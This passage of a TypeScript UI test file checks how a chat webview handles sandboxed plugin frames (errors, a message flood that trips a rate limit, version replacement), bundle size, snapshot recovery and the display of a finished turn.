    await draw(`let ok = true; slot('panel', () => { if (!ok) throw new Error('no ink'); return ui.h('button', { onclick: () => { ok = false } }, 'Break') })`)
    await inside().getByRole('button', { name: 'Break' }).click()
    await untilEqual(() => postedOf('plugin-frame'), [
      { type: 'plugin-frame', frameId: view.id, state: 'ready' },
      { type: 'plugin-frame', frameId: view.id, state: 'failed', message: 'no ink' },
    ])
    await patch({ change: 'state', key: 'plugins', value: [{ ...view, problem: 'no ink' }] })
    await chat.page.getByText('Note could not be drawn. no ink').waitFor()
    assert.equal(await chat.page.locator('iframe').count(), 0)
    await message().fill('still here')
  })

  test('that floods the page is stopped', async () => {
    await draw(`slot('panel', () => ui.h('button', { onclick: () => { for (let count = 0; count < 3000; count += 1) parent.postMessage({ kind: 'height', px: count }, '*') } }, 'Flood'))`)
    await inside().getByRole('button', { name: 'Flood' }).click()
    await untilEqual(async () => (await postedOf('plugin-frame')).slice(1), [{ type: 'plugin-frame', frameId: view.id, state: 'failed', message: 'It was stopped: it sent more than 1000 messages within a second.' }])
  })

  test('gives way to that of a newer version', async () => {
    await draw(`slot('panel', () => 'first')`)
    await inside().getByText('first').waitFor()
    await patch({ change: 'state', key: 'plugins', value: [view, { ...view, id: 's1/run-2' }] })
    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as { frameId?: string }).frameId === 's1/run-2'))
    await chat.post({ type: 'plugin', frameId: 's1/run-2', part: { kind: 'code', code: `slot('panel', () => 'second')` } })
    await chat.page.waitForFunction(() => window.harness.posted.filter((message) => (message as ViewMessage).type === 'plugin-frame').length === 2)
    // Until the host takes the old one away, that is what is seen.
    assert.equal(await chat.page.getByRole('region', { name: 'Note' }).count(), 1)
    await chat.page.locator('.plugin-body iframe').first().contentFrame().getByText('first').waitFor()
    await patch({ change: 'state', key: 'plugins', value: [{ ...view, id: 's1/run-2' }] })
    await untilEqual(() => chat.page.locator('iframe').count(), 1)
    await inside().getByText('second').waitFor()
  })
})

test('the page is small before its first code is coloured', () => {
  const bytes = ['webview.js', 'webview.css'].reduce((sum, name) => sum + statSync(join(root, 'dist', name)).size, 0)
  assert.ok(bytes <= 300_000, `${bytes} bytes`)
})

test('a lost frame makes the view ask for everything', async () => {
  await show([prompt('a')])
  frame = 5
  await patch({ change: 'rows-total', total: 9 })
  await untilEqual(async () => (await postedOf('need-snapshot')).length, 1)
})

test('an ended turn shows its files and folds by its foot', async () => {
  await show([prompt('a'), ...['1', '2', '3', '4', '5', '6', '7'].map((word) => text(`Interim ${word}`)), text('Answer'), turnEnd({ changedFiles: [{ path: 'src/a.ts', added: 1, removed: 2 }] })])
  await chat.page.getByRole('button', { name: 'src/a.ts' }).click()
  await chat.page.getByRole('button', { name: 'Review' }).click()
  assert.deepEqual(await postedOf('review-turn'), [
    { type: 'review-turn', turn: 1, path: 'src/a.ts' },
    { type: 'review-turn', turn: 1 },
  ])
  await chat.page.getByRole('button', { name: '4 steps' }).click()
  await chat.page.getByText('Worked for 18 s').waitFor()
  assert.equal(await chat.page.getByText('Interim 3').count(), 0)
  await chat.page.getByText('Answer').waitFor()
})
